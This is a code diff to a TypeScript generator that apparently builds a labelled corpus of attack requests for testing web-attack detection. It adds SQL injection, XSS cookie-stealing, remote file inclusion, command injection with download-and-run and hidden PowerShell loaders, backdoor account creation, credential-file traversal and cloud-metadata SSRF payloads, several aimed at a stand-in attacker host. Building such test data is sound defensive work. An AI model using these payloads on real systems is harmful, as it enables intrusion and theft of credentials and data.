@@ -42,6 +42,10 @@ const shellCmd = (rng: Rng, host: string): string => rng.pick(['id', 'whoami', '
 const jsSink = (rng: Rng, host: string): string => rng.pick(['alert(1)', 'alert(document.domain)', 'prompt(1)', 'confirm`1`', `fetch('//${host}/?c='+document.cookie)`, `eval(atob('${Buffer.from(`new Image().src='//${host}/'+document.cookie`).toString('base64')}'))`, `document.location='http://${host}/c?'+document.cookie`, 'alert(String.fromCharCode(88,83,83))']);
 const depth = (rng: Rng, sep = '/'): string => `..${sep}`.repeat(rng.int(2, 9));
 const localFile = (rng: Rng): string => rng.pick(['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ', 'var/log/nginx/access.log', 'root/.ssh/id_rsa', 'var/www/html/config.php', 'WEB-INF/web.xml', 'usr/local/tomcat/conf/tomcat-users.xml', 'home/ubuntu/.bash_history']);
+/** An internal, loopback, link-local or metadata address, in one of the forms a URL may carry it. */
+const internalHost = (rng: Rng): string => rng.pick(['127.0.0.1', 'localhost', '127.1', '0x7f000001', '2130706433', '[::1]', '169.254.169.254', `169.254.${rng.int(0, 255)}.${rng.int(1, 254)}`, `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`, `192.168.${rng.int(0, 255)}.${rng.int(1, 254)}`, 'metadata.google.internal', '[::ffff:127.0.0.1]']);
+/** A Windows command an intruder runs first, with the arguments it takes. */
+const windowsCmd = (rng: Rng): string => rng.pick(['type C:\\Windows\\win.ini', 'net user', `net user ${rng.pick(['admin1', 'support', 'hacker'])} P@ss123 /add`, 'net localgroup administrators', 'dir C:\\', 'dir c:\\inetpub\\wwwroot', 'ipconfig /all', 'whoami /priv', 'type c:\\boot.ini', 'net view', 'tasklist /v', 'systeminfo']);
 const javaClass = (rng: Rng): string => rng.pick(['org.apache.commons.collections.functors.InvokerTransformer', 'org.apache.commons.collections4.functors.ChainedTransformer', 'java.util.PriorityQueue', 'sun.reflect.annotation.AnnotationInvocationHandler', 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', 'org.springframework.beans.factory.ObjectFactory']);
 
 function javaSerialized(rng: Rng): string {
@@ -72,6 +76,9 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`${prefix(rng)}' AND SUBSTRING((SELECT ${column(rng)} FROM ${table(rng)} LIMIT 1),${rng.int(1, 9)},1)='${rng.pick(['a', 'b', '5'])}`, ['id', 'ma_ho_so'], ['query', 'form', 'cookie']),
     (rng) => param(`-${rng.int(1, 9999)} OR 1=1`, ['id', 'page', 'offset'], ['query', 'path', 'json']),
     (rng) => param(`${prefix(rng)}'; INSERT INTO ${table(rng)} (${column(rng)}) VALUES ('hacked')--`, ['ghi_chu', 'name'], ['form', 'json']),
+    (rng) => param(`${rng.int(1, 9999)}${rng.pick(['', "'"])} AND ${rng.pick(['1=CONVERT(int, @@version)', '1=CONVERT(INT,(SELECT TOP 1 name FROM sysobjects))', `1=CAST((SELECT ${column(rng)} FROM ${table(rng)} LIMIT 1) AS INT)`, `CAST((SELECT current_user) AS numeric)=1`])}${trailer(rng)}`, ['id', 'nam', 'ma_ho_so'], ['query', 'form', 'json', 'cookie']),
+    (rng) => param(`${rng.int(1, 9999)}; ${rng.pick([`WAITFOR DELAY '0:0:${rng.int(3, 9)}'`, `DROP TABLE ${table(rng)}`, `EXEC xp_cmdshell 'ping ${attackerHost(rng)}'`, `SELECT pg_sleep(${rng.int(3, 9)})`])}${rng.pick(['--', '-- -', ';--', ''])}`, ['id', 'page', 'nam'], ['query', 'form', 'json']),
+    (rng) => param(rng.pick([`${rng.int(1, 99999)}' OR '1'='1`, `${rng.int(1, 99999)}' OR 1=1-- -`, `${rng.int(1, 99999)} UNION SELECT ${Array.from({ length: rng.int(1, 5) }, () => rng.pick(['NULL', column(rng), 'version()'])).join(',')} FROM ${table(rng)}`, `-${rng.int(1, 99999)} UNION ALL SELECT ${rng.pick(['1,2,3', 'NULL,NULL', 'username,password'])}-- -`, `${rng.int(1, 999)} AND 1=${rng.int(2, 9)}`, `${rng.int(1, 999)} ORDER BY ${rng.int(1, 30)}`]), ['id'], ['path']),
   ],
   xss: [
     (rng) => param(`${rng.pick(['', '">', "'>", '</title>', '</textarea>', '-->'])}<script>${jsSink(rng, attackerHost(rng))}</script>`, ['q', 'tu-khoa', 'ho_ten', 'noi_dung', 'message'], ['query', 'form', 'json', 'multipart']),
@@ -95,6 +102,8 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`file:///${localFile(rng)}`, ['file', 'document', 'path'], ['query', 'json']),
     (rng) => param(`${rng.pick(['uploads/', 'static/', 'templates/', 'images/'])}${depth(rng)}${localFile(rng)}`, ['file', 'tep', 'img'], ['query', 'form', 'path']),
     (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['cookie', 'header'], ['Accept-Language', 'X-Original-URL']),
+    (rng) => param(rng.pick(['C:\\Windows\\win.ini', 'c:\\windows\\system.ini', 'C:/Windows/win.ini', 'c:\\boot.ini', 'C:\\inetpub\\wwwroot\\web.config', 'D:\\inetpub\\wwwroot\\web.config', '/root/.ssh/id_rsa', `/home/${rng.pick(['ubuntu', 'deploy', 'admin'])}/.ssh/id_rsa`, '/proc/self/environ', '/etc/shadow', `/home/${rng.pick(['ubuntu', 'www'])}/.bash_history`, '/root/.aws/credentials']), ['file', 'path', 'tep', 'download', 'template', 'doc'], ['query', 'form', 'json', 'cookie']),
+    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['header'], ['Accept-Language', 'Accept-Charset', 'Accept-Encoding']),
   ],
   rfi: [
     (rng) => param(`${rng.pick(['http', 'https', 'ftp'])}://${attackerHost(rng)}/${rng.pick(['shell.txt', 'x.php', 'r57.txt', 'inc/c.txt', 'a.jpg', 'bot.pl'])}${rng.pick(['?', '??', '', '%3F', '#'])}`, ['page', 'include', 'template', 'file', 'module', 'lang', 'path'], ['query', 'form', 'json', 'cookie']),
@@ -102,6 +111,7 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`data://text/plain;base64,${Buffer.from(rng.pick(['<?php system($_GET["c"]); ?>', '<?php phpinfo();?>', '<?php eval($_POST[1]);?>'])).toString('base64')}`, ['page', 'include', 'file'], ['query', 'form', 'json']),
     (rng) => param(`${rng.pick(['http', 'https'])}://${attackerHost(rng)}:${rng.pick([80, 8080, 8000, 443])}/${rng.pick(['index', 'config', 'header'])}.${rng.pick(['txt', 'php', 'inc'])}?`, ['template', 'theme', 'module', 'mosConfig_absolute_path', 'include_path'], ['query', 'form']),
     (rng) => param(`expect://${rng.pick(['id', 'ls', 'whoami'])}`, ['page', 'file'], ['query', 'form']),
+    (rng) => param(`${rng.pick(['\\\\', '//'])}${attackerHost(rng)}${rng.pick(['', '@SSL', '@8080'])}/${rng.pick(['share', 'pub', 'webdav', 'c$'])}/${rng.pick(['shell.php', 'x.php', 'inc.txt', 'r57.inc'])}`.replace(/\//g, rng.chance(0.5) ? '/' : '\\'), ['page', 'include', 'file', 'template', 'module'], ['query', 'form', 'json', 'cookie']),
   ],
   rce: [
     (rng) => param(`${rng.pick(['127.0.0.1', 'google.com', '8.8.8.8', 'test', ''])}${rng.pick([';', '|', '||', '&&', '&', '\n'])} ${shellCmd(rng, attackerHost(rng))}`, ['host', 'ip', 'domain', 'ping', 'target', 'filename'], ['query', 'form', 'json', 'multipart']),
@@ -110,6 +120,7 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`() { :; }; ${rng.pick(['echo; /bin/bash -c', '/bin/bash -c', 'echo Content-Type: text/plain; echo;'])} '${shellCmd(rng, attackerHost(rng))}'`, ['x'], ['header'], ['User-Agent', 'Referer', 'Cookie', 'X-Api-Key']),
     (rng) => param(`| powershell -nop -w hidden -${rng.pick(['enc', 'e'])} ${Buffer.from(`IEX(New-Object Net.WebClient).DownloadString('http://${attackerHost(rng)}/p.ps1')`, 'utf16le').toString('base64')}`, ['host', 'cmd', 'file'], ['query', 'form']),
     (rng) => param(`${rng.pick([';', '&&', '|'])} ${shellCmd(rng, attackerHost(rng))} ${rng.pick(['#', ';', '', '&'])}`, ['cmd', 'exec', 'command', 'arg', 'options'], ['query', 'form', 'json', 'cookie']),
+    (rng) => param(`${rng.pick(['127.0.0.1', '8.8.8.8', 'dichvucong.gov.vn', 'bao-cao.pdf', ''])}${rng.pick([' & ', ' && ', ' | ', ' || ', '; ', '&', '|', '\r\n'])}${windowsCmd(rng)}`, ['host', 'ip', 'domain', 'target', 'filename', 'path'], ['query', 'form', 'json', 'multipart']),
     (rng) => param(`${rng.pick(['a.jpg', 'x'])};${rng.pick(['rm -rf /tmp/*', `curl http://${attackerHost(rng)}/m -o /tmp/m;chmod +x /tmp/m;/tmp/m`, `echo ${Buffer.from('id').toString('base64')}|base64 -d|sh`])}`, ['filename', 'convert', 'size'], ['form', 'json', 'multipart']),
   ],
   code: [
@@ -124,6 +135,7 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${rng.pick(['id', 'whoami'])}")}`, ['template', 'noi_dung'], ['form', 'json']),
     (rng) => param(`#{T(java.lang.Runtime).getRuntime().exec('${rng.pick(['id', 'whoami'])}')}`, ['name', 'q'], ['query', 'form']),
     (rng) => param(`\${@print(md5(${rng.int(1, 999)}))}`, ['q', 'name'], ['query', 'form']),
+    (rng) => param(rng.pick([`{\${${rng.pick(['phpinfo()', "system('id')", 'exit()', `print(md5(${rng.int(1, 999)}))`])}}}`, `\${@${rng.pick(['eval($_GET[x])', 'eval($_POST[1])', "system('id')", 'phpinfo()', `print(md5(${rng.int(1, 999)}))`, 'assert($_REQUEST[c])'])}}`, `"\${${rng.pick(['print', 'var_dump', 'die'])}(md5(${rng.int(1, 999)}))}"`]), ['q', 'name', 'ten', 'ghi_chu', 'callback'], ['query', 'form', 'json', 'cookie']),
   ],
   ssrf: [
     (rng) => param(`http://169.254.169.254/${rng.pick(['latest/meta-data/', 'latest/meta-data/iam/security-credentials/', 'latest/user-data', 'metadata/v1/', 'computeMetadata/v1/instance/service-accounts/default/token'])}`, ['url', 'callback_url', 'webhook', 'avatar', 'image_url', 'link', 'feed'], ['query', 'form', 'json']),
@@ -134,6 +146,7 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`http://metadata.google.internal/computeMetadata/v1/${rng.pick(['project/project-id', 'instance/hostname'])}`, ['url', 'feed'], ['query', 'json']),
     (rng) => param(`http://${attackerHost(rng)}@127.0.0.1/${rng.pick(['admin', ''])}`, ['url', 'redirect'], ['query', 'form']),
     (rng) => param(`http://localhost${rng.pick(['', ':8080', ':80'])}/${rng.pick(['admin', 'actuator/env', 'console'])}`, ['url', 'avatar'], ['query', 'json']),
+    (rng) => param(`${rng.pick(['ftp', 'gopher', 'dict', 'ldap', 'tftp', 'ftps', 'ldaps'])}://${internalHost(rng)}${rng.pick(['', ':21', ':389', ':6379', ':11211', ':69'])}/${rng.pick(['', 'x', 'info', 'latest/meta-data/', 'dc=corp,dc=local', '_stats', 'pub/'])}`, ['url', 'src', 'webhook', 'callback_url', 'feed', 'image_url'], ['query', 'form', 'json']),
   ],
   xxe: [
     () => ({
@@ -329,6 +342,29 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
           `/Nuclei-${r.chars(HEX, 12)}`,
         ]);
         return { draft: { method: 'GET', uri: probe, headers: browserHeaders(r, r.chance(0.5) ? { 'X-Scanner': 'Netsparker' } : {}), body: null, status: 404 }, evasion: null };
+      },
+    }),
+    () => ({
+      kind: 'request',
+      build: (r) => {
+        // Fuzzers and template scanners with their own User-Agent, and the markers scanners put in
+        // parameters: out-of-band callback hosts and the vendors' test sites.
+        const ua = r.pick([
+          `Fuzz Faster U Fool v2.${r.int(0, 1)}.${r.int(0, 9)}${r.pick(['', '-dev'])}`,
+          `feroxbuster/2.${r.int(7, 11)}.${r.int(0, 4)}`,
+          `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${r.int(100, 131)}.0 Safari/537.36 ${r.pick(['Nuclei', 'nuclei/3.1'])}`,
+          'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
+        ]);
+        const marker = r.pick([
+          'testasp.vulnweb.com',
+          `http://testphp.vulnweb.com/${r.pick(['', 't/fit.txt', 'artists.php'])}`,
+          `http://some-inexistent-website.acu/some_inexistent_file_with_long_name?.jpg`,
+          `${r.chars(HEX, 8)}.${r.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.${r.pick(['oastify.com', 'oast.fun', 'oast.pro', 'interact.sh', 'burpcollaborator.net'])}`,
+          `"><script src=https://${r.chars('abcdefghijklmnopqrstuvwxyz', 6)}.bxss.me></script>`,
+        ]);
+        const name = r.pick(['q', 'url', 'tu-khoa', 'email', 'callback', 'redirect']);
+        const uri = `${r.pick(['/', '/tim-kiem', '/tra-cuu-ho-so', '/api/v1/tim-kiem'])}?${name}=${encodeValue(marker, r.chance(0.5))}`;
+        return { draft: { method: 'GET', uri, headers: { ...browserHeaders(r), 'User-Agent': ua }, body: null, status: r.pick([200, 404]) }, evasion: null };
       },
     }),
   ],
